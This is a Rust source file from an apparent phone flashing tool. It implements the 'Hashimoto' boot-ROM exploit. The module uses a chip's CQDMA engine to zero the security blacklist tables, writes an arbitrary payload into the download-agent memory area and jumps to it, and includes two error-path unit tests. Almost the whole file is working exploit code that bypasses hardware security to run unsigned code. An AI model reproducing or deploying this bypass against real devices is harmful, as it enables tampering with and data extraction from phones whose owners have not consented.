// SPDX-FileCopyrightText: 2025 The flashcore Authors
// SPDX-License-Identifier: GPL-3.0-or-later

//! Hashimoto: use the CQDMA engine to zero the security-range blacklist,
//! then place the stage-1 payload straight into the (now writable) BROM
//! download area and jump to it.

use crate::error::{ExploitError, Result};
use crate::engine::cqdma::Cqdma;
use crate::exploit::{ExploitBridge, ExploitCtx, PayloadResult};
use crate::proto::preloader::Preloader;

#[derive(Default)]
pub struct Hashimoto {
    prepared: bool,
}

impl Hashimoto {
    pub fn new() -> Self {
        Self::default()
    }
}

impl ExploitBridge for Hashimoto {
    fn name(&self) -> &'static str {
        "hashimoto"
    }

    fn prepare(&mut self, ctx: &mut ExploitCtx<'_>) -> Result<()> {
        let chip = ctx.chip()?;
        let Some(cqdma_base) = chip.cqdma_base else {
            return Err(ExploitError::UnsupportedChip(format!(
                "{} has no CQDMA",
                chip.name
            ))
            .into());
        };
        let mut brom = Preloader::new(ctx.transport);
        let mut dma = Cqdma::new(&mut brom, cqdma_base, chip.scratch_addr);
        dma.init()?;
        for &table in chip.blacklist_addrs {
            dma.disable_blacklist(table)?;
            if !dma.blacklist_disarmed(table)? {
                return Err(ExploitError::BlacklistActive.into());
            }
        }
        ctx.events
            .info("hashimoto: security blacklist disarmed via CQDMA");
        self.prepared = true;
        Ok(())
    }

    fn run_payload(&mut self, ctx: &mut ExploitCtx<'_>, payload: &[u8]) -> Result<PayloadResult> {
        if !self.prepared {
            return Err(ExploitError::BlacklistActive.into());
        }
        let chip = ctx.chip()?;
        let Some(cqdma_base) = chip.cqdma_base else {
            return Err(ExploitError::UnsupportedChip(chip.name.into()).into());
        };
        let mut brom = Preloader::new(ctx.transport);
        {
            let mut dma = Cqdma::new(&mut brom, cqdma_base, chip.scratch_addr);
            dma.write_mem(chip.da_payload_addr, payload)?;
        }
        brom.jump_da(chip.da_payload_addr)?;
        Ok(PayloadResult {
            bytes: payload.len(),
            jumped: true,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chipdb;
    use crate::error::Error;
    use crate::event::Events;
    use crate::transport::testing::ScriptedTransport;

    #[test]
    fn chip_without_cqdma_is_unsupported() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x6572),
            events: &Events::default(),
        };
        match Hashimoto::new().prepare(&mut ctx) {
            Err(Error::Exploit(ExploitError::UnsupportedChip(_))) => {}
            other => panic!("unexpected: {other:?}"),
        }
    }

    #[test]
    fn payload_requires_disarmed_blacklist() {
        let mut t = ScriptedTransport::new(vec![]);
        let mut ctx = ExploitCtx {
            transport: &mut t,
            chip: chipdb::by_hw_code(0x0766),
            events: &Events::default(),
        };
        match Hashimoto::new().run_payload(&mut ctx, &[0u8; 16]) {
            Err(Error::Exploit(ExploitError::BlacklistActive)) => {}
            other => panic!("unexpected: {other:?}"),
        }
    }
}
